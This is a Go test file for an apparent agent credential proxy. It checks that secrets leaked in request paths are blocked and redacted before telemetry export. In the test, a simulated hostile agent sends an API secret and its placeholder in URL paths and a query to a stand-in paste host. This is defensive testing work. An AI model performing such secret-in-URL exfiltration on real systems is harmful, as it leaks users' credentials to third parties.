package otlp

import (
	"bytes"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/agentvault/agentvault/internal/testsupport"
	"github.com/agentvault/agentvault/proxy"
)

// TestSecretInPathReachesCollectorRedacted wires the exporter to a real
// proxy as the session does: a hostile agent puts the real secret and its
// placeholder in a request path (and query) to a host not bound to it; the
// collector gets the refusal's record with both masked, and no byte of any
// export body holds either.
func TestSecretInPathReachesCollectorRedacted(t *testing.T) {
	const (
		secret      = "sk-live-0pQ7rT2vX9zB4nM6kJ8h"
		placeholder = "sk-live-AGENTVAULTplaceholdr"
		password    = "pw-otlp-test"
	)
	rc := newReceiver(t, nil)
	e, err := New(Config{Endpoint: rc.URL, Session: "av-0tl9e5t0"})
	if err != nil {
		t.Fatal(err)
	}
	sessionCA, err := testsupport.NewCA("session")
	if err != nil {
		t.Fatal(err)
	}
	p := &proxy.Proxy{
		Password: password,
		CA:       sessionCA.Cert,
		CAKey:    sessionCA.Key,
		Credentials: []*proxy.Credential{{
			Name: "demo", Placeholder: placeholder, Hosts: []string{"api.example.test"},
			Secret: func() string { return secret },
		}},
		RootCAs: sessionCA.Pool,
		Record:  e.Add,
	}
	addr, err := p.Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()

	client := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(&url.URL{
		Scheme: "http", User: url.UserPassword("agentvault", password), Host: addr.String(),
	})}, Timeout: 10 * time.Second}
	for _, path := range []string{"/upload/" + secret, "/upload/" + placeholder + "/x?key=" + secret} {
		res, err := client.Get("http://paste.example.test" + path)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, res.Body)
		res.Body.Close()
	}
	p.Close()
	if res := shutdown(e, 5*time.Second); res.Delivered != 2 {
		t.Fatalf("result %+v", res)
	}

	recs := rc.records()
	var paths []string
	for _, r := range recs {
		a := attrs(r.GetAttributes())
		paths = append(paths, a["url.path"].(string)+" "+a["agentvault.action"].(string))
	}
	want := []string{"/upload/[demo] leak_blocked", "/upload/[demo placeholder]/x leak_blocked"}
	if strings.Join(paths, "|") != strings.Join(want, "|") {
		t.Fatalf("collector got paths %q, want %q", paths, want)
	}
	rc.mu.Lock()
	defer rc.mu.Unlock()
	for _, body := range rc.raw {
		for _, v := range []string{secret, placeholder, "0pQ7rT2vX9zB4nM6kJ8h", password} {
			if bytes.Contains(body, []byte(v)) {
				t.Fatalf("an export body holds %q", v)
			}
		}
	}
}
